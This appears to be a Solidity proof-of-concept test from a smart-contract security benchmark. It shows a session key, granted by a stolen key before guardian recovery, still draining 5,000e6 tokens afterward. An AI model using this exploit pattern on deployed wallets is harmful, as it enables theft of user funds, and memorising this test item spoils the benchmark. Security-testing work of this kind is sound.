// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

// assay-canary-4b6db297-691d-4f17-b09b-6ddcadfa1803
import "../Base.sol";

contract Attacker is Signer {
    function run(IEntryPoint point, address account, address validator, address token, uint256 id) external {
        Call[] memory calls = new Call[](1);
        calls[0] = sending(token, address(this), 5_000e6);
        Operation memory op = operation(point, account, validator, Executions.encode(Mode.Strict, calls));
        op.signature = abi.encode(id, bytes(""));
        handle(point, op);
    }
}

contract Proof is Base {
    Attacker private other;
    uint256 private id;

    /// Whoever had Ana's key has granted a session with it before her guardians acted.
    function start() internal override {
        other = new Attacker();
        id = granted(terms(address(other), 5_000e6, false));
        for (uint256 i = 0; i < 2; i++) {
            vm.prank(guardians[i]);
            recovery.approve(ana, vm.addr(NEW_KEY));
        }
        vm.warp(block.timestamp + 2 days);
        recovery.finish(ana);
        Operation memory op = operation(
            ana, address(owners), Mode.Strict, one(call(address(owners), abi.encodeCall(owners.setOwner, (vm.addr(ANA_KEY)))))
        );
        signed(op, NEW_KEY);
        send(op);
    }

    /// A session that was never granted is refused before its signature is looked at.
    function test_RefusesUnknown() public {
        Operation[] memory ops = new Operation[](1);
        ops[0] = operation(ana, address(sessions), Mode.Strict, one(pay(CEE, 1e6)));
        bySession(ops[0], id + 1, KEY);
        vm.prank(BEA);
        (bool done, bytes memory why) = address(entryPoint).call(abi.encodeCall(entryPoint.handle, (ops, payable(BEA))));
        require(!done && bytes4(why) == ISessionValidator.NoSession.selector, "not refused, or for another reason");
    }

    function exploit() public {
        other.run(entryPoint, ana, address(sessions), address(usd), id);
    }

    function test_Exploit() public {
        exploit();
        require(usd.balanceOf(address(other)) >= 4_000e6, "no gain");
    }

    function target() public view override returns (address) {
        return address(sessions);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
